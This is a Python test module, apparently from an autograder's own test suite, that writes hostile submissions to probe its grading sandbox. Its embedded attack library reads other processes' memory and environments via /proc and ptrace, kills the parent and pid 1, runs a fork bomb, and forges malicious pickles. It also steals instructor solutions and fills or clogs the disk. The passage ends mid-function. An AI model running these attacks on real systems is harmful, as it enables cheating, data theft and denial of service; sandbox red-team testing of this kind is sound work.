"""Attacks on the grading sandbox, as submissions made from the solution.

Each attack replaces the whole of ONE graded function (its ``target``) with a call into a small
attack library that is added to the student's file. The library tries to get the answer
without computing it (the solution, the instructor's code, the fixtures, the grader's memory,
other students' code) or to do harm (signals, writes, the network, runaway processes), and
otherwise fails with a report: ``A2AttackReport("A2ATTACK <attack> on <function> got
nothing: ...")``, or ``... A2LEAK <what it got>`` when it reached something it must not (an
environment variable of the grader, another process, a file outside its scratch folder).
Exceptions are the one channel a student surely has to the grader's feedback, so the report
shows up in the case's message. When an attack does get an answer it returns it: points on its
function then prove the leak. Everything else in the file is the solution (correct).

``materialize(folder, plan, config)`` writes one submission; ``plan`` maps graded functions to
attacks, so one submission can carry several attacks. ``config`` carries what the test set up
for the attacks to look for (the secret planted in the grader's environment, the listeners'
ports, paths of canary and marker files); an attack knows nothing else in advance.

File-level attacks (``symlink_solution``) are built by their own functions. The library also
holds two strategies that are not in ATTACKS, for the two-round test of hidden cases:
``exfiltrate_hidden`` (hidden inputs into public messages) and ``lookup_table``.
"""
import ast
import os
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Dict

from submissions import FILES, LC, TLN, make_submission, solution_source

TAMPER = "A2ATTACK" + "-TAMPER"  # what write attacks append or write; never literally in any source
FILE_PREFIX = "a2attack_probe"  # the name of every file a write attack tries to create
LEAK = "A2LEAK"
REPORT = "A2ATTACK"

MODULE_OF = {"svm_loss_naive": LC, "svm_loss_vectorized": LC, "softmax_loss_naive": LC, "softmax_loss_vectorized": LC,
             "sample_batch": LC, "predict_linear_classifier": LC, "nn_forward_pass": TLN, "nn_forward_backward": TLN,
             "nn_predict": TLN, "nn_train": TLN}


@dataclass(frozen=True)
class Attack:
    name: str
    target: str  # the graded function whose body it replaces
    what: str  # one line: what it tries
    steals: bool = True  # it returns the answer when it finds one (points prove a leak)


ATTACKS: Dict[str, Attack] = {a.name: a for a in [
    Attack("import_reference", "nn_forward_backward",
           "import grader.assignments.a2.instructor.reference (also from every kit root it can find) and call the solution"),
    Attack("import_mistakes", "nn_forward_backward",
           "import grader.assignments.a2.instructor.mistakes.two_layer_variant, which with its defaults is the right answer"),
    Attack("solution_on_sys_path", "nn_forward_pass",
           "load a2/two_layer_net.py (with solution markers) from every sys.path entry, also through a shell"),
    Attack("solution_via_module_files", "nn_forward_pass",
           "find kit roots from every module's __file__/__path__, editable finders, .pth files and dist-info, "
           "then load a2/two_layer_net.py"),
    Attack("walk_disk", "predict_linear_classifier",
           "os.walk from / and from every root it knows, looking for solution files, instructor code and fixtures"),
    Attack("fixtures", "svm_loss_vectorized",
           "torch.load grader/assignments/a2/fixtures/*.pt and return the stored expected value of the matching case"),
    Attack("grader_environment", "predict_linear_classifier",
           "look for a secret planted in the grader's environment: os.environ, /proc/self, /proc/1, /proc/<ppid>, "
           "every /proc/<pid>/environ", steals=False),
    Attack("proc_snoop", "nn_forward_pass",
           "read /proc/<pid>/cmdline and environ of every process it can see, and the memory of the grader's "
           "(/proc/<pid>/maps, then /proc/<pid>/mem)",
           steals=False),
    Attack("inherited_fds", "svm_loss_vectorized",
           "fstat descriptors 0..1023 and use any regular file, folder or socket it inherited", steals=False),
    Attack("memory_search", "nn_forward_pass",
           "gc.get_objects(): containers holding a tensor equal to X with answer-shaped tensors beside it; "
           "anything keyed like an answer key", steals=True),
    Attack("preloaded_answers", "predict_linear_classifier",
           "search every preloaded case payload (serve.PRELOADED) for its inputs next to answer-shaped tensors"),
    Attack("pickle_return", "predict_linear_classifier",
           "forge a pickled reply frame on the reply pipe, then return objects whose __reduce__/__repr__ "
           "write a marker file", steals=False),
    Attack("ptrace", "nn_forward_pass",
           "ptrace(PTRACE_SEIZE) and process_vm_readv the parent, pid 1 and every pid up to 64", steals=False),
    Attack("signal_killer", "svm_loss_naive",
           "for 5 s: signal 0 to every pid (and kill(-1, SIGURG)) to find processes it may signal; SIGKILL "
           "its parent, pid 1 and the other processes it may signal (another job's worker)", steals=False),
    Attack("signal_parent", "nn_predict",
           "SIGSTOP then SIGKILL its parent and pid 1", steals=False),
    Attack("network", "nn_predict",
           "TCP connect and UDP sendto to the test's loopback listeners, AF_UNIX connect to its socket file, DNS",
           steals=False),
    Attack("write_everywhere", "nn_forward_pass",
           "open every file of the repository, site-packages and other workers' folders for writing (writing "
           "nothing), append its marker to the batch's submissions and output files and the test's decoys, create "
           "a2attack_probe.txt/.pth and sitecustomize.py in every folder it knows; unlink the test's canary",
           steals=False),
    Attack("read_other_submissions", "svm_loss_naive",
           "read the other students' code (paths from the worker's stack frames and its own folder's parent) "
           "and run a correct one"),
    Attack("escape_via_subprocess", "nn_forward_backward",
           "start /bin/sh and a fresh Python to read the solution for it"),
    Attack("fork_bomb", "nn_forward_backward",
           "posix_spawn up to 1200 sleep processes; count how many it got", steals=False),
    Attack("rabbit", "nn_train",
           "a chain of shells, each starting the next in a new session (SIGTERM ignored) and living 1 s, for "
           "up to 45 s, to outrun teardown's snapshots of the process tree", steals=False),
    Attack("capabilities", "nn_predict",
           "capget: does the worker hold any capability? setuid(0), mknod of a block device", steals=False),
    Attack("html_injection", "svm_loss_naive",
           "raise with <script> and <img onerror> in the message (for report.html)", steals=False),
    Attack("terminal_escapes", "softmax_loss_naive",
           "raise with escape sequences that clear the screen and draw a fake summary, a carriage return and a "
           "right-to-left override in the message (for the terminal, feedback and report)", steals=False),
    Attack("scratch_fill", "predict_linear_classifier",
           "fill the scratch folder (the one writable place) with 1 GiB, so that the disk fills for the "
           "submissions after it; reports a leak when it got it all written", steals=False),
    Attack("scratch_undeletable", "sample_batch",
           "leave folders 2000 deep, folders without any permission and a name that is not UTF-8 in the scratch "
           "folder, so that removing it fails (or recurses too deep) and it stays on the disk", steals=False),
]}

TERMINAL_ESCAPES = "\x1b[2J\x1b[H\x1b]0;A2ATTACK\x07Score: 100.00 / 100.00\r\u202e"

FORK_BOMB_LIMIT = 1200
RABBIT_MARK = "A2_RABBIT=1"  # in the environment of every generation of the rabbit


# ---------------------------------------------------------------------------- the library

LIBRARY = r'''
# ----------------------------------------------------------------------- A2ATTACK library
# An attack on the grader (tests/attacks.py), not an assignment solution.
import os as _a2os
import sys as _a2sys

_A2_CONFIG = __CONFIG__
_A2_MEMO = {}


class A2AttackReport(Exception):
    """What an attack found, as its message (the grader shows it in the case's feedback)."""


def _a2_entry(fname, args, kwargs):
    import torch
    attack = _A2_CONFIG["plan"][fname]
    notes, leaks = [], []
    answer = None
    try:
        # out of the tracer's sight, with torch's own context (the worker's watched twin would
        # fail the case for switching the tracer off: these attacks are about the sandbox)
        quiet = getattr(torch._C.DisableTorchFunction, "_original", None) or torch._C.DisableTorchFunction
        with quiet():
            answer = globals()["_a2_s_" + attack](fname, list(args), dict(kwargs), notes, leaks)
    except A2AttackReport:
        raise
    except BaseException as exc:  # noqa: BLE001
        notes.append("strategy raised %s: %s" % (type(exc).__name__, str(exc)[:300]))
    if answer is not None:
        return answer
    head = "A2ATTACK %s on %s" % (attack, fname)
    if leaks:
        text = head + " A2LEAK " + " | ".join(leaks)
    else:
        text = head + " got nothing: " + " | ".join(notes)
    raise A2AttackReport(text[:1950])


def _a2_err(exc):
    import errno
    code = getattr(exc, "errno", None)
    return errno.errorcode.get(code, type(exc).__name__) if code else type(exc).__name__


def _a2_note_errors(notes, what, errors):
    if errors:
        counts = {}
        for e in errors:
            counts[e] = counts.get(e, 0) + 1
        notes.append("%s: %s" % (what, ", ".join("%s x%d" % kv for kv in sorted(counts.items()))))


def _a2_text(path, limit=1 << 21):
    with open(path, "rb") as f:
        return f.read(limit).decode("utf-8", "replace")


def _a2_is_solution(text):
    return "# BEGIN SOLUTION" in text and "A2ATTACK" not in text


def _a2_exec_solution(files, notes=None):
    """Run solution files (text by path) into one namespace of functions; None if none is one."""
    ns, found = {}, False
    for path in sorted(files, key=lambda p: not p.endswith("linear_classifier.py")):
        text = files[path]
        if not _a2_is_solution(text):
            continue
        text = text.replace("from .linear_classifier import sample_batch", "")
        text = text.replace("from linear_classifier import sample_batch", "")
        g = {"__name__": "_a2stolen", "sample_batch": ns.get("sample_batch")}
        exec(compile(text, "<stolen %s>" % path, "exec"), g)
        ns.update({k: v for k, v in g.items() if callable(v)})
        found = True
    return ns if found else None


def _a2_solution_from_folder(folder, errors, fname=None):
    """The solution's functions from the files in ``folder``, or None (unreadable, not a
    solution, or without ``fname``)."""
    files = {}
    for name in ("linear_classifier.py", "two_layer_net.py"):
        path = _a2os.path.join(folder, name)
        try:
            files[path] = _a2_text(path)
        except OSError as exc:
            errors.append(_a2_err(exc))
    ns = _a2_exec_solution(files) if files else None
    return ns if ns and (fname is None or fname in ns) else None


def _a2_cast(value, like):
    """Floating tensors of ``value`` in the dtype of the inputs (fixtures hold float64)."""
    import torch
    dtype = next((a.dtype for a in like if isinstance(a, torch.Tensor) and a.is_floating_point()), None)
    if dtype is None:
        dtype = next((v.dtype for a in like if isinstance(a, dict) for v in a.values()
                      if isinstance(v, torch.Tensor) and v.is_floating_point()), torch.float64)
    if isinstance(value, torch.Tensor):
        return value.to(dtype) if value.is_floating_point() else value.clone()
    if isinstance(value, (list, tuple)):
        return type(value)(_a2_cast(v, like) for v in value)
    if isinstance(value, dict):
        return {k: _a2_cast(v, like) for k, v in value.items()}
    return value


def _a2_same(a, b):
    import torch
    if isinstance(a, torch.Tensor) or isinstance(b, torch.Tensor):
        return (isinstance(a, torch.Tensor) and isinstance(b, torch.Tensor) and a.shape == b.shape
                and a.dtype == b.dtype and bool(torch.equal(a.cpu(), b.cpu())))
    if isinstance(a, dict) and isinstance(b, dict):
        return set(a) == set(b) and all(_a2_same(a[k], b[k]) for k in a)
    if isinstance(a, (list, tuple)) and isinstance(b, (list, tuple)):
        return len(a) == len(b) and all(_a2_same(x, y) for x, y in zip(a, b))
    return a == b


def _a2_call(ns, fname, args, kwargs):
    fn = ns.get(fname) if isinstance(ns, dict) else getattr(ns, fname, None)
    return fn(*args, **kwargs) if fn is not None else None


def _a2_frames():
    """Every frame of the main thread, innermost first (the probe, serve, the zygote's)."""
    import threading
    frame = _a2sys._current_frames().get(threading.main_thread().ident)
    out = []
    while frame is not None:
        out.append(frame)
        frame = frame.f_back
    return out


def _a2_spec():
    """The spawn request and state the zygote forked this worker with (its stack frames)."""
    for frame in _a2_frames():
        if frame.f_code.co_name == "_become_worker":
            return frame.f_locals.get("spec") or {}, frame.f_locals.get("state") or {}
    return {}, {}


def _a2_roots():
    """Folders that may hold a kit: sys.path, every module's file and package folders and
    their parents, editable finders' mappings, paths in .pth files and dist-info, guesses."""
    import json
    import re
    if "roots" in _A2_MEMO:
        return _A2_MEMO["roots"]
    roots = []

    def add(path):
        if path and isinstance(path, str) and path not in roots:
            roots.append(path)

    for p in list(_a2sys.path):
        add(p)
    for mod in list(_a2sys.modules.values()):
        f = getattr(mod, "__file__", None)
        if isinstance(f, str):
            d = _a2os.path.dirname(_a2os.path.abspath(f))
            for _ in range(4):
                add(d)
                d = _a2os.path.dirname(d)
        try:
            for p in list(getattr(mod, "__path__", None) or []):
                add(p)
                add(_a2os.path.dirname(p))
        except Exception:  # noqa: BLE001
            pass
        mapping = getattr(mod, "MAPPING", None)
        if isinstance(mapping, dict):
            for v in mapping.values():
                add(_a2os.path.dirname(str(v)))
                add(str(v))
    for p in list(_a2sys.path):
        if not p.endswith("-packages"):
            continue
        try:
            entries = _a2os.listdir(p)
        except OSError:
            continue
        for e in entries:
            path = _a2os.path.join(p, e)
            try:
                if e.endswith(".pth") or (e.startswith("__editable__") and e.endswith(".py")):
                    text = _a2_text(path)
                    for line in text.splitlines():
                        if line.strip().startswith("/"):
                            add(line.strip())
                    for m in re.findall(r"['\"](/[^'\"]+)['\"]", text):
                        add(m)
                        add(_a2os.path.dirname(m))
                elif e.endswith(".dist-info"):
                    url = json.loads(_a2_text(_a2os.path.join(path, "direct_url.json"))).get("url", "")
                    if url.startswith("file://"):
                        add(url[len("file://"):])
            except (OSError, ValueError):
                pass
    spec, state = _a2_spec()
    for p in list(spec.get("hidden", [])) + list(state.get("kept", [])):
        add(p)
    for p in _A2_CONFIG.get("guesses", []):
        add(p)
    _A2_MEMO["roots"] = roots
    return roots


def _a2_candidate_files(roots):
    for root in roots:
        for sub in ("a2", "", "source/a2", "main/a2"):
            yield _a2os.path.join(root, sub) if sub else root


# ------------------------------------------------------------------------- strategies

def _a2_s_import_reference(fname, args, kwargs, notes, leaks):
    import importlib
    import types
    try:
        from grader.assignments.a2.instructor import reference
        ref = reference.load_reference()
        leaks.append("imported grader.assignments.a2.instructor.reference")
        return _a2_call(ref.tln, fname, args, kwargs)
    except Exception as exc:  # noqa: BLE001
        notes.append("import grader.assignments.a2.instructor.reference: %s %s" % (type(exc).__name__, str(exc)[:80]))
    errors = []
    for i, root in enumerate(_a2_roots()):
        folder = _a2os.path.join(root, "grader")
        if not _a2os.path.exists(_a2os.path.join(folder, "instructor", "reference.py")):
            continue
        name = "_a2g%d" % i
        try:
            package = types.ModuleType(name)
            package.__path__ = [folder]
            _a2sys.modules[name] = package
            ref = importlib.import_module(name + ".instructor.reference").load_reference()
            leaks.append("loaded %s/instructor/reference.py" % folder)
            return _a2_call(ref.tln, fname, args, kwargs)
        except Exception as exc:  # noqa: BLE001
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "instructor/reference.py under the roots", errors)
    return None


def _a2_s_import_mistakes(fname, args, kwargs, notes, leaks):
    import importlib
    import types
    found = None
    try:
        from grader.assignments.a2.instructor.mistakes import two_layer_variant as found
    except Exception as exc:  # noqa: BLE001
        notes.append("import grader.assignments.a2.instructor.mistakes: %s" % type(exc).__name__)
    errors = []
    if found is None:
        for i, root in enumerate(_a2_roots()):
            folder = _a2os.path.join(root, "grader")
            if not _a2os.path.exists(_a2os.path.join(folder, "instructor", "mistakes.py")):
                continue
            name = "_a2m%d" % i
            try:
                package = types.ModuleType(name)
                package.__path__ = [folder]
                _a2sys.modules[name] = package
                found = importlib.import_module(name + ".instructor.mistakes").two_layer_variant
                break
            except Exception as exc:  # noqa: BLE001
                errors.append(_a2_err(exc))
    _a2_note_errors(notes, "instructor/mistakes.py under the roots", errors)
    if found is None or len(args) < 3 or args[2] is None:
        return None
    leaks.append("got two_layer_variant")
    params, X, y = args[0], args[1], args[2]
    reg = args[3] if len(args) > 3 else kwargs.get("reg", 0.0)
    return found(params, X, y, reg)


def _a2_s_solution_on_sys_path(fname, args, kwargs, notes, leaks):
    import subprocess
    errors = []
    for folder in _a2_candidate_files(list(_a2sys.path)):
        ns = _a2_solution_from_folder(folder, errors, fname)
        if ns:
            return _a2_call(ns, fname, args, kwargs)
    notes.append("sys.path: %s" % _a2sys.path[:8])
    _a2_note_errors(notes, "sys.path candidates", errors)
    # The same through a shell: a child inherits every restriction of its parent, or not?
    for folder in _a2_candidate_files(list(_a2sys.path)):
        path = _a2os.path.join(folder, "two_layer_net.py")
        if not _a2os.path.exists(path) or folder == _a2os.getcwd():
            continue
        try:
            out = subprocess.run(["/bin/sh", "-c", 'cat "$0"', path], capture_output=True, timeout=10).stdout
        except Exception as exc:  # noqa: BLE001
            notes.append("sh: %s" % _a2_err(exc))
            break
        ns = _a2_exec_solution({path: out.decode("utf-8", "replace")})
        if ns:
            leaks.append("read %s through /bin/sh" % path)
            return _a2_call(ns, fname, args, kwargs)
    notes.append("%d sys.path entries" % len(_a2sys.path))
    return None


def _a2_s_solution_via_module_files(fname, args, kwargs, notes, leaks):
    errors = []
    roots = _a2_roots()
    for folder in _a2_candidate_files(roots):
        if not _a2os.path.exists(_a2os.path.join(folder, "two_layer_net.py")):
            continue
        ns = _a2_solution_from_folder(folder, errors, fname)
        if ns:
            return _a2_call(ns, fname, args, kwargs)
    for root in roots:  # instructor code readable at all?
        path = _a2os.path.join(root, "grader", "instructor", "reference.py")
        try:
            _a2_text(path, 100)
            leaks.append("read " + path)
        except OSError as exc:
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "%d roots" % len(roots), errors)
    return None


def _a2_walk(notes):
    """Solution files, instructor code and fixtures found on disk (memoized)."""
    import time
    if "walk" in _A2_MEMO:
        return _A2_MEMO["walk"]
    found = {"solutions": [], "instructor": [], "fixtures": [], "denied": 0, "entries": 0}
    start = time.monotonic()
    # Where kits and grading folders live first, then everything else (system folders last).
    tops = ["/autograder", "/work", "/srv", "/home", "/root", "/opt", "/mnt", "/tmp", "/var/tmp"]
    tops += [r for r in _a2_roots() if _a2os.path.isdir(r)] + ["/"]
    seen = set()
    skip = {"/proc", "/sys", "/dev", "/usr", "/lib", "/lib64", "/lib32", "/bin", "/sbin", "/boot", "/snap"}

    def denied(exc):
        found["denied"] += 1

    for top in tops:
        if time.monotonic() - start > 5 or found["entries"] > 300000:
            break
        for root, dirs, files in _a2os.walk(top, onerror=denied):
            if root in seen or root in skip:
                dirs[:] = []
                continue
            seen.add(root)
            found["entries"] += len(dirs) + len(files)
            if time.monotonic() - start > 5 or found["entries"] > 300000:
                break
            dirs[:] = [d for d in dirs if _a2os.path.join(root, d) not in skip]
            if "two_layer_net.py" in files:
                found["solutions"].append(root)
            if root.endswith(_a2os.path.join("grader", "instructor")):
                found["instructor"].append(root)
            if _a2os.path.basename(root) == "fixtures" and any(f.endswith(".pt") for f in files):
                found["fixtures"].append(root)
    found["seconds"] = round(time.monotonic() - start, 1)
    _A2_MEMO["walk"] = found
    return found


def _a2_s_walk_disk(fname, args, kwargs, notes, leaks):
    found = _a2_walk(notes)
    notes.append("walked %d entries in %s s (%d folders refused), saw %d a2-like folders, %d instructor, "
                 "%d fixtures" % (found["entries"], found["seconds"], found["denied"], len(found["solutions"]),
                                  len(found["instructor"]), len(found["fixtures"])))
    errors = []
    for folder in found["solutions"]:
        ns = _a2_solution_from_folder(folder, errors, fname)
        if ns:
            return _a2_call(ns, fname, args, kwargs)
    for folder in found["instructor"]:
        try:
            _a2_text(_a2os.path.join(folder, "reference.py"), 100)
            leaks.append("read %s/reference.py" % folder)
        except OSError as exc:
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "reading what it found", errors)
    return None


def _a2_fixture_folders():
    folders = []
    try:
        import grader
        folders += [_a2os.path.join(p, "assignments", "a2", "fixtures") for p in grader.__path__]
    except Exception:  # noqa: BLE001
        pass
    for root in _a2_roots():
        for sub in ("grader/assignments/a2/fixtures", "source/grader/assignments/a2/fixtures", "fixtures"):
            folders.append(_a2os.path.join(root, sub))
    folders += _A2_MEMO.get("walk", {}).get("fixtures", [])
    out = []
    for f in folders:
        if f not in out and _a2os.path.isdir(f):
            out.append(f)
    return out


def _a2_s_fixtures(fname, args, kwargs, notes, leaks):
    import torch
    errors, folders = [], _a2_fixture_folders()
    for folder in folders:
        try:
            names = sorted(_a2os.listdir(folder))
        except OSError as exc:
            errors.append(_a2_err(exc))
            names = [n + ".pt" for n in (fname,)]
        for name in names:
            if not name.endswith(".pt"):
                continue
            try:
                data = torch.load(_a2os.path.join(folder, name), map_location="cpu", weights_only=True)
            except Exception as exc:  # noqa: BLE001
                errors.append(_a2_err(exc))
                continue
            leaks.append("read fixtures %s/%s" % (folder, name))
            for case in data.values():
                payload, key = case.get("payload", {}), case.get("key", {})
                if isinstance(payload, dict) and payload.get("function") == fname \
                        and _a2_same(payload.get("args"), args) and "expected" in key:
                    return _a2_cast(key["expected"], args)
    notes.append("fixture folders seen: %s" % folders[:4])
    _a2_note_errors(notes, "%d fixture folders" % len(folders), errors)
    return None


def _a2_s_grader_environment(fname, args, kwargs, notes, leaks):
    secret = _A2_CONFIG["secret"]
    ours = {"HOME", "TMPDIR", "MPLCONFIGDIR", "MPLBACKEND", "OMP_NUM_THREADS"}
    inherited = sorted(k for k in _a2os.environ if k not in ours)
    notes.append("%d inherited environment variables" % len(inherited))
    for key, value in _a2os.environ.items():
        if secret in value:
            leaks.append("os.environ[%r] holds the grader's secret" % key)
    errors = []
    pids = ["self", "1", str(_a2os.getppid())]
    try:
        pids += [p for p in _a2os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        errors.append(_a2_err(exc))
    for pid in pids:
        try:
            if secret.encode() in open("/proc/%s/environ" % pid, "rb").read():
                leaks.append("/proc/%s/environ holds the grader's secret" % pid)
        except OSError as exc:
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "/proc environs", errors)
    return None


def _a2_s_proc_snoop(fname, args, kwargs, notes, leaks):
    import re
    errors, me = [], _a2os.getpid()
    try:
        pids = [int(p) for p in _a2os.listdir("/proc") if p.isdigit()]
    except OSError as exc:
        errors.append(_a2_err(exc))
        pids = list(range(1, 65)) + [_a2os.getppid()]
    for pid in pids:
        if pid == me:
            continue
        for what in ("cmdline", "environ"):
            try:
                data = open("/proc/%d/%s" % (pid, what), "rb").read(4096)
                leaks.append("read /proc/%d/%s (%r)" % (pid, what, data[:60]))
            except OSError as exc:
                errors.append(_a2_err(exc))
        try:
            if b"grader" not in open("/proc/%d/cmdline" % pid, "rb").read():
                continue  # memory: only the grader's processes (the zygote, the grader)
            maps = open("/proc/%d/maps" % pid).read()
            with open("/proc/%d/mem" % pid, "rb") as mem:
                for line in maps.splitlines()[:200]:
                    m = re.match(r"([0-9a-f]+)-([0-9a-f]+) r", line)
                    if m:
                        mem.seek(int(m.group(1), 16))
                        mem.read(min(int(m.group(2), 16) - int(m.group(1), 16), 1 << 16))
                        leaks.append("read /proc/%d/mem" % pid)
                        break
        except OSError as exc:
            errors.append(_a2_err(exc))
    _a2_note_errors(notes, "/proc of %d pids" % len(pids), errors)
    return None


def _a2_s_inherited_fds(fname, args, kwargs, notes, leaks):
    import socket
    import stat
    kinds = {}
    for fd in range(0, 1024):
        try:
            st = _a2os.fstat(fd)
        except OSError:
            continue
        mode = st.st_mode
        kind = ("file" if stat.S_ISREG(mode) else "dir" if stat.S_ISDIR(mode) else "sock" if stat.S_ISSOCK(mode)
                else "fifo" if stat.S_ISFIFO(mode) else "chr" if stat.S_ISCHR(mode) else "other")
        kinds[fd] = kind
        if kind == "file":
            try:
                _a2os.lseek(fd, 0, 0)
                leaks.append("fd %d is a regular file: %r" % (fd, _a2os.read(fd, 80)))
            except OSError as exc:
                leaks.append("fd %d is a regular file (%s)" % (fd, _a2_err(exc)))
        elif kind == "dir":
            try:
                leaks.append("fd %d is a folder: %s" % (fd, sorted(_a2os.listdir(fd))[:10]))
            except OSError as exc:
                leaks.append("fd %d is a folder (%s)" % (fd, _a2_err(exc)))
        elif kind == "sock":
            try:
                s = socket.socket(fileno=_a2os.dup(fd))
                s.settimeout(0.5)
                s.sendall(b'{"op": "ping"}\n')
                leaks.append("fd %d is a socket; ping answered %r" % (fd, s.recv(100)))
            except OSError as exc:
                leaks.append("fd %d is a socket (%s)" % (fd, _a2_err(exc)))
    notes.append("descriptors: %s" % kinds)
    return None


def _a2_siblings(tensors, objects):
    """Tensors held next to (in the same dict/list, or one level down) any of ``tensors``."""
    import torch

    def holds(container):
        values = container.values() if isinstance(container, dict) else container
        return any(isinstance(v, torch.Tensor) and any(v is t or (v.shape == t.shape and v.dtype == t.dtype
                   and bool(torch.equal(v, t))) for t in tensors) for v in values)

    out = []
    for obj in objects:
        if not isinstance(obj, (dict, list, tuple)) or not holds(obj):
            continue
        values = list(obj.items()) if isinstance(obj, dict) else [(i, v) for i, v in enumerate(obj)]
        for key, v in values:
            inner = (list(v.items()) if isinstance(v, dict) else
                     [("%s[%d]" % (key, i), w) for i, w in enumerate(v[:16])] if isinstance(v, (list, tuple))
                     else [(key, v)])
            for k, w in inner:
                if isinstance(w, torch.Tensor) and not any(w is t for t in tensors):
                    out.append((str(k), w))
    return out


def _a2_wanted(fname, args):
    """(name, shape, is_float) of the answer's parts, from the inputs' shapes."""
    if fname == "nn_forward_pass":
        params, X = args[0], args[1]
        return [("scores", (X.shape[0], params["W2"].shape[1]), True), ("hidden", (X.shape[0], params["W1"].shape[1]), True)]
    if fname == "predict_linear_classifier":
        return [("labels", (args[1].shape[0],), False)]
    return []


def _a2_pick(fname, args, candidates, leaks, where):
    import torch
    wanted = _a2_wanted(fname, args)
    picked = []
    for name, shape, is_float in wanted:
        match = [(k, t) for k, t in candidates if tuple(t.shape) == shape and t.is_floating_point() == is_float]
        match.sort(key=lambda kt: kt[0] != name)  # the same name first
        if not match:
            return None
        picked.append(match[0][1])
    leaks.append("%s: answer-shaped tensors beside the inputs (%s)" % (where, [k for k, _ in candidates][:8]))
    picked = [_a2_cast(t, args) for t in picked]
    return tuple(picked) if len(picked) > 1 else picked[0]


def _a2_s_memory_search(fname, args, kwargs, notes, leaks):
    import gc
    import torch

    def has_tensor(value, depth=0):
        if isinstance(value, torch.Tensor):
            return True
        if depth < 2 and isinstance(value, (list, tuple)):
            return any(has_tensor(v, depth + 1) for v in value)
        if depth < 2 and isinstance(value, dict):
            return any(has_tensor(v, depth + 1) for v in value.values())
        return False

    if "containers" not in _A2_MEMO:
        containers, keyed = [], []
        for o in gc.get_objects():
            if isinstance(o, dict) and "__doc__" not in o and "__module__" not in o:
                if any(k in o and has_tensor(o[k]) for k in ("expected", "mistakes", "key")):
                    keyed.append(o)
                if any(isinstance(v, (torch.Tensor, dict)) for v in o.values()):
                    containers.append(o)
            elif isinstance(o, (list, tuple)) and any(isinstance(v, (torch.Tensor, dict)) for v in o[:64]):
                containers.append(o)
        _A2_MEMO["containers"], _A2_MEMO["keyed"] = containers, keyed
    keyed = _A2_MEMO["keyed"]
    if keyed:
        leaks.append("%d dicts keyed like an answer key in memory: %s" % (len(keyed), [sorted(d)[:6] for d in keyed[:3]]))
    tensors = [a for a in args if isinstance(a, torch.Tensor) and a.dim() >= 1]
    found = _a2_siblings(tensors, _A2_MEMO["containers"])
    notes.append("%d containers of tensors, %d tensors beside the inputs" % (len(_A2_MEMO["containers"]), len(found)))
    return _a2_pick(fname, args, found, leaks, "gc") if found else None


def _a2_s_preloaded_answers(fname, args, kwargs, notes, leaks):
    import torch
    from grader.student_side import serve
    tensors = [a for a in args if isinstance(a, torch.Tensor) and a.dim() >= 1]
    payloads = []

    def flatten(obj, depth=0):
        if depth > 4:
            return
        if isinstance(obj, dict):
            payloads.append(obj)
            for v in obj.values():
                flatten(v, depth + 1)
        elif isinstance(obj, (list, tuple)):
            payloads.append(obj)
            for v in obj:
                flatten(v, depth + 1)

    held = getattr(serve, "PRELOADED", {})  # the worker once held every case's payload; no more
    for key, (probe, payload) in list(held.items()):
        flatten(payload)
    found = _a2_siblings(tensors, payloads)
    notes.append("%d preloaded cases, %d tensors beside the inputs" % (len(held), len(found)))
    return _a2_pick(fname, args, found, leaks, "PRELOADED") if found else None


class _A2Evil:
    def __reduce__(self):
        return (_a2os.system, ("touch " + _A2_CONFIG["marker"],))

    def __repr__(self):
        try:
            open(_A2_CONFIG["marker"], "w").write("written by the worker in repr")
        except OSError:
            pass
        return "<_A2Evil>"


def _a2_s_pickle_return(fname, args, kwargs, notes, leaks):
    import pickle
    import struct
    rep_fd, key = None, ""
    for frame in _a2_frames():
        if frame.f_code.co_name == "serve":
            rep_fd, key = frame.f_locals.get("rep_fd"), str(frame.f_locals.get("key"))
    if rep_fd is not None and "hidden" in key:  # public cases return the objects below instead
        blob = pickle.dumps(_A2Evil())
        _a2os.write(rep_fd, struct.pack("!Q", len(blob)) + blob)  # a pickled "reply" frame
        notes.append("forged a pickled frame on fd %d" % rep_fd)
        raise A2AttackReport("A2ATTACK pickle_return on %s got nothing: forged frame sent" % fname)
    try:
        import torch

        class EvilTensor(torch.Tensor):
            def __reduce_ex__(self, protocol):
                return (_a2os.system, ("touch " + _A2_CONFIG["marker"],))

        evil_tensor = torch.zeros(3).as_subclass(EvilTensor)
    except Exception:  # noqa: BLE001
        evil_tensor = None
    return {"a": _A2Evil(), "b": [_A2Evil()], "t": evil_tensor}


def _a2_s_ptrace(fname, args, kwargs, notes, leaks):
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype = ctypes.c_long
    PTRACE_SEIZE, PTRACE_DETACH = 0x4206, 17
    errors = []
    targets = sorted({_a2os.getppid(), 1} | set(range(2, 65)) | set(_A2_CONFIG.get("spare", [])[:3]))
    for pid in targets:
        if pid == _a2os.getpid():
            continue
        if libc.ptrace(ctypes.c_long(PTRACE_SEIZE), ctypes.c_long(pid), None, None) == 0:
            leaks.append("ptrace(PTRACE_SEIZE, %d) worked" % pid)
            libc.ptrace(ctypes.c_long(PTRACE_DETACH), ctypes.c_long(pid), None, None)
        else:
            errors.append(_a2_err(OSError(ctypes.get_errno(), "")))

    class IOVec(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]

    buf = ctypes.create_string_buffer(64)
    local = IOVec(ctypes.cast(buf, ctypes.c_void_p), 64)
    from grader.student_side import serve
    remote = IOVec(id(serve), 64)  # forked from the zygote: the same address there
    libc.process_vm_readv.restype = ctypes.c_ssize_t
    got = libc.process_vm_readv(_a2os.getppid(), ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    if got > 0:
        leaks.append("process_vm_readv of the parent read %d bytes" % got)
    else:
        errors.append("vm_readv " + _a2_err(OSError(ctypes.get_errno(), "")))
    _a2_note_errors(notes, "ptrace", errors)
    return None


def _a2_s_signal_killer(fname, args, kwargs, notes, leaks):
    import signal
    import time
    if _A2_MEMO.get("killed"):
        notes.append("(signalled in an earlier case)")
        return None
    _A2_MEMO["killed"] = True
    me, spare = _a2os.getpid(), set(_A2_CONFIG.get("spare", []))
    killed, permitted, errors, rounds = set(), set(), [], 0
    end = time.monotonic() + _A2_CONFIG.get("kill_seconds", 8.0)
    for target, sig in ((_a2os.getppid(), signal.SIGKILL), (1, signal.SIGKILL)):
        try:
            _a2os.kill(target, sig)
            leaks.append("kill(%d, %s) was allowed" % (target, sig.name))
